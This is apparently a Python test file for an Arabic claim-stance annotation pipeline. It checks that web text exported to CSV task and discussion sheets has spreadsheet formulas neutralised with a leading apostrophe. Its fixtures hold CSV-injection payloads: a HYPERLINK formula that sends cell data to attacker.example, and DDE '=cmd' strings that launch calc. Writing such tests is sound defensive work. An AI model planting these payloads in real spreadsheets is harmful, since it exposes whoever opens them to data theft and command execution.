"""Task and discussion sheets keep text from the web from acting as a spreadsheet formula."""

from __future__ import annotations

import csv
import json
from pathlib import Path

from helpers_annotation import add_claims, ls_annotation, ls_task, write_json

from arastance.config import load_settings
from tasks.annotation.sheet_cells import FORMULA_STARTS, inert_cell
from tasks.annotation.workflow import adjudicate, export_round, import_annotations
from warehouse import Warehouse
from warehouse import annotation as store

HOSTILE_CLAIM = '=HYPERLINK("http://attacker.example/?"&D3,"اضغط هنا")'
HOSTILE_TITLE = "+1+cmd|' /C calc'!A0\t=cmd|' /C calc'!A0\tu"
HOSTILE_ARTICLE = "-2+3 @SUM(A1:A9) نص الخبر;=cmd|' /C calc'!A0"
HOSTILE_URL = "@https://news.example/x"
# as the sheets carry them: an apostrophe at the start and after each ";" or tab that a sign follows
INERT_TITLE = "'+1+cmd|' /C calc'!A0\t'=cmd|' /C calc'!A0\tu"
INERT_ARTICLE = "'-2+3 @SUM(A1:A9) نص الخبر;'=cmd|' /C calc'!A0"


def _poison(wh: Warehouse) -> None:
    wh.con.execute("UPDATE claims SET cleaned_text = ?", [HOSTILE_CLAIM])
    wh.con.execute("UPDATE articles SET title = ?, text = ?, url = ?", [HOSTILE_TITLE, HOSTILE_ARTICLE, HOSTILE_URL])


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_a_cell_that_a_spreadsheet_would_run_gets_an_apostrophe_and_others_are_kept() -> None:
    for formula in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "＝1+1", " =1", "   -1"):
        assert inert_cell(formula) == "'" + formula
    for text in ("الادعاء رقم 1", "", "1-2", "a=b", "'=1", "   ", "أ; ب\tج"):
        assert inert_cell(text) == text
    # a spreadsheet splitting on ";" or tabs reads quotes only at a field's start: each part is escaped
    assert inert_cell("x;=HYPERLINK(1);y") == "x;'=HYPERLINK(1);y"
    assert inert_cell("t\t =cmd|' /C calc'!A0\tu; -1") == "t\t '=cmd|' /C calc'!A0\tu; '-1"
    assert inert_cell("=a;+b") == "'=a;'+b"


def test_task_sheets_carry_the_web_text_inert_and_label_studio_gets_it_unchanged(
    warehouse: Warehouse, tmp_path: Path
) -> None:
    add_claims(warehouse, 2, 2)
    _poison(warehouse)
    done = export_round(warehouse, "pilot", load_settings().annotation, tmp_path / "tasks", size=4)
    rows = _rows(done.directory / "ann-1.csv")
    assert rows and all(r["claim"] == "'" + HOSTILE_CLAIM and r["article_title"] == INERT_TITLE
                        and r["article"] == INERT_ARTICLE and r["article_url"] == "'" + HOSTILE_URL
                        for r in rows)
    assert all(r["claim_url"].startswith("https://") and r["pair_id"] and not r["pair_id"].startswith("'")
               for r in rows)
    raw = (done.directory / "ann-1.csv").read_text(encoding="utf-8").splitlines()
    assert all(line.startswith('"') and line.endswith('"') for line in raw), "every cell is quoted"
    for delimiter in (";", "\t"):  # an import that splits on another character finds no formula either
        cells = [c for row in csv.reader(raw, delimiter=delimiter) for c in row]
        assert not any(c.lstrip(" ").startswith(FORMULA_STARTS) for c in cells), delimiter
    [task, *_] = json.loads((done.directory / "ann-1.json").read_text(encoding="utf-8"))
    assert task["data"]["claim"] == HOSTILE_CLAIM and task["data"]["article"] == HOSTILE_ARTICLE

    for row in rows:  # the annotator fills the sheet in and it imports as usual
        row["label"] = "unrelated"
    sheet = tmp_path / "ann-1.csv"
    with sheet.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    assert import_annotations(warehouse, sheet).new == len(rows)


def test_the_discussion_sheet_carries_the_web_text_and_the_labels_inert(warehouse: Warehouse, tmp_path: Path) -> None:
    cfg = load_settings().annotation
    add_claims(warehouse, 1, 1)
    _poison(warehouse)
    pilot = export_round(warehouse, "pilot", cfg, tmp_path / "tasks", size=1)
    [pair] = sorted({t["pair_id"] for t in store.round_tasks(warehouse, pilot.round)})
    for annotator, label in zip(cfg.annotators, ("agree", "discuss", "unrelated")):
        # an annotator id as a hostile Label Studio export might name the user
        import_annotations(warehouse, write_json(tmp_path / "labelled" / f"{annotator}.json",
                                                 [ls_task(pair, pilot.round, [ls_annotation(annotator, label)], 1)]))
    warehouse.con.execute("UPDATE annotations SET annotator_id = '=' || annotator_id WHERE annotator_id = ?",
                      [sorted(cfg.annotators)[0]])
    [sheet] = adjudicate(warehouse, cfg, tmp_path / "tasks").discussion_sheets
    [row] = _rows(sheet)
    assert row["pair_id"] == pair and row["labels"].startswith("'=")
    assert (row["claim"], row["article"], row["article_url"]) == (
        "'" + HOSTILE_CLAIM, INERT_ARTICLE, "'" + HOSTILE_URL)
